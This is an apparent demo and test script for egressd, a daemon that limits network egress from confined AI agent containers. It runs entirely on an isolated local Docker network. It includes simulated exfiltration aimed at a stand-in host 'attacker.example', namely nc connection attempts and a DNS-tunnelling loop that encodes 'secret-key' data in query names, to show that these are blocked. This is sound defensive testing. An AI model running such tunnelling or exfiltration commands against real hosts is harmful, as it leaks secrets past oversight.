#!/usr/bin/env bash
# The main job, end to end, on a fresh Debian 12 machine (as root): builds egressd, starts
# dockerd if needed, and runs the daemon with two confined "agent" containers.
#
# Everything stays on this machine: an --internal Docker network, fake API servers on it, and a
# fake DNS server (examples/fake_dns.rs) that maps real-looking names to those servers.
#   agent-openai  egressd.profiles=openai          -> may reach api.openai.com:443 only
#   agent-none    egressd.enable=true, no rules     -> may reach nothing but its DNS
# The script prints each attempt as ALLOWED or DENIED, then `egressd status`, and cleans up.
# Set EGRESSD_DEMO_KEEP=1 to leave it all running (stop it with scripts/demo.sh --cleanup).
# EGRESSD_BIN=PATH runs that egressd binary instead of building one, and
# EGRESSD_DAEMON_WRAP="CMD ARGS..." runs the daemon under a wrapper: scripts/test-packaging.sh
# uses both to run the installed binary with only the unit's capabilities.
set -euo pipefail
cd "$(dirname "$0")/.."
. scripts/lib/setup.sh

NET=egressd-demo
SUBNET=10.199.0
WORK=/tmp/egressd-demo
METRICS_PORT=19464
IMAGE=egressd-demo-busybox
CONTAINERS=(egressd-demo-openai egressd-demo-exfil agent-openai agent-none)

cleanup() {
  [ -f "$WORK/egressd.pid" ] && kill "$(cat "$WORK/egressd.pid")" 2>/dev/null || true
  [ -f "$WORK/dns.pid" ] && kill "$(cat "$WORK/dns.pid")" 2>/dev/null || true
  docker rm -f "${CONTAINERS[@]}" >/dev/null 2>&1 || true
  docker network rm "$NET" >/dev/null 2>&1 || true
}

require_root
if [ "${1:-}" = "--cleanup" ]; then cleanup; exit 0; fi
ensure_packages
ensure_dockerd
cleanup
[ "${EGRESSD_DEMO_KEEP:-}" = 1 ] || trap cleanup EXIT
mkdir -p "$WORK"

if [ -n "${EGRESSD_BIN:-}" ]; then
  BIN=$EGRESSD_BIN
  log "using $BIN; building the fake DNS server"
  cargo build --release --quiet --example fake_dns
else
  log "building egressd (release)"
  cargo build --release --quiet --bin egressd --example fake_dns
  BIN=target/release/egressd
fi
read -ra WRAP <<< "${EGRESSD_DAEMON_WRAP:-}"

log "building the $IMAGE image FROM scratch with busybox"
cp /bin/busybox "$WORK/busybox"
printf 'FROM scratch\nCOPY busybox /bin/busybox\nRUN ["/bin/busybox", "--install", "-s", "/bin"]\nCMD ["sh"]\n' > "$WORK/Dockerfile"
docker build -q -t "$IMAGE" "$WORK" >/dev/null

log "network $NET ($SUBNET.0/24, --internal: no route off this host)"
docker network create --internal --subnet "$SUBNET.0/24" "$NET" >/dev/null
serve='mkdir -p /www && echo "hello from $0" > /www/index.html && httpd -p 443 -h /www && httpd -f -p 8443 -h /www'
docker run -d --name egressd-demo-openai --network "$NET" --ip "$SUBNET.10" "$IMAGE" sh -c "$serve" fake-api.openai.com >/dev/null
docker run -d --name egressd-demo-exfil --network "$NET" --ip "$SUBNET.66" "$IMAGE" sh -c "$serve" attacker.example >/dev/null

cat > "$WORK/records" <<EOF
api.openai.com     A $SUBNET.10 30
attacker.example   A $SUBNET.66 30
EOF
target/release/examples/fake_dns --listen "$SUBNET.1:53" --records "$WORK/records" --log "$WORK/dns.log" > "$WORK/dns.out" &
echo $! > "$WORK/dns.pid"
for _ in $(seq 50); do grep -q ready "$WORK/dns.out" 2>/dev/null && break; sleep 0.1; done

# proxy mode (the default): egressd answers the containers' DNS. The fake API servers sit on
# a private network, so the rebinding guard must be told that answers may point there.
cat > "$WORK/config.toml" <<EOF
profile_dirs = ["$PWD/profiles"]
[dns]
mode = "proxy"
upstreams = ["$SUBNET.1:53"]
min_ttl = 5
rebind_allow = ["$SUBNET.0/24"]
[control]
socket = "$WORK/egressd.sock"
[metrics]
listen = "127.0.0.1:$METRICS_PORT"
EOF
log "starting egressd run (log: $WORK/egressd.log)"
"${WRAP[@]}" "$BIN" run --config "$WORK/config.toml" > "$WORK/egressd.log" 2>&1 &
echo $! > "$WORK/egressd.pid"
for _ in $(seq 100); do "$BIN" status --socket "$WORK/egressd.sock" >/dev/null 2>&1 && break; sleep 0.1; done

log "starting two labelled agent containers"
docker run -d --name agent-openai --network "$NET" --dns "$SUBNET.1" \
  --label egressd.enable=true --label egressd.profiles=openai "$IMAGE" sleep 3600 >/dev/null
docker run -d --name agent-none --network "$NET" --dns "$SUBNET.1" \
  --label egressd.enable=true "$IMAGE" sleep 3600 >/dev/null
for _ in $(seq 100); do
  n=$("$BIN" status --json --socket "$WORK/egressd.sock" 2>/dev/null | grep -c '"state"' || true)
  [ "$n" -ge 2 ] && break; sleep 0.1
done
sleep 0.5

# attempt CONTAINER NAME PORT: resolve NAME through the container's own DNS (answered by
# egressd's proxy), then connect. A refused name is tried by its address anyway, as malware
# with a hard-coded address would.
attempt() {
  local c=$1 name=$2 port=$3 ip dns
  ip=$(docker exec "$c" nslookup "$name" 2>/dev/null | sed -n 's/^Address: //p' | tail -n1 || true)
  if [ -n "$ip" ]; then dns="dns: answered"; else
    dns="dns: REFUSED"; ip=$(awk -v n="$name" '$1==n {print $3}' "$WORK/records"); fi
  if docker exec "$c" sh -c "printf 'GET / HTTP/1.0\r\n\r\n' | nc -w 2 $ip $port" 2>/dev/null | grep -q hello; then
    printf '  %-13s -> %-22s %-15s %-14s ALLOWED\n' "$c" "$name:$port" "($ip)" "$dns"
  else
    printf '  %-13s -> %-22s %-15s %-14s DENIED\n' "$c" "$name:$port" "($ip)" "$dns"
  fi
}

echo
echo "== attempts from inside the containers"
attempt agent-openai api.openai.com 443
attempt agent-openai api.openai.com 8443
attempt agent-openai attacker.example 443
attempt agent-none api.openai.com 443
attempt agent-none attacker.example 443
echo
echo "== DNS tunnelling attempt: 40 queries carrying data to attacker.example"
refused=$(docker exec agent-openai sh -c 'for i in $(seq 40); do nslookup "c2VjcmV0LWtleS0$i.attacker.example" 2>&1 | grep -q REFUSED && echo R; done' | wc -l || true)
reached=$(grep -c 'c2VjcmV0' "$WORK/dns.log" || true)
echo "  names refused inside the container: $refused of 40; queries that reached the upstream DNS: $reached"
echo
echo "== egressd status"
"$BIN" status --socket "$WORK/egressd.sock"
echo
echo "== egressd status agent-openai (one container: its last events too)"
"$BIN" status agent-openai --socket "$WORK/egressd.sock" | sed -n '/recent events/,$p'
echo
echo "== events in the daemon's log (one structured line each, rate limited per container)"
{ grep 'egress denied' "$WORK/egressd.log" | head -n 2; grep 'dns-tunnel' "$WORK/egressd.log" | head -n 1; } | sed -e 's/^/  /'
echo
echo "== a few lines of GET http://127.0.0.1:$METRICS_PORT/metrics"
exec 3<>"/dev/tcp/127.0.0.1/$METRICS_PORT"
printf 'GET /metrics HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n' >&3
grep -E '^egressd_(containers|denied_packets_total|allowed_bytes_total|dns_queries_total)' <&3 | grep -v ' 0$' | sed -e 's/^/  /' || true
exec 3<&-
echo
echo "== the table in agent-openai's network namespace"
nsenter -t "$(docker inspect -f '{{.State.Pid}}' agent-openai)" -n nft list table inet egressd | sed -e '/^	*$/d'
if [ "${EGRESSD_DEMO_KEEP:-}" = 1 ]; then
  echo
  log "left running (EGRESSD_DEMO_KEEP=1): try '$BIN status --socket $WORK/egressd.sock'; stop with: $0 --cleanup"
fi
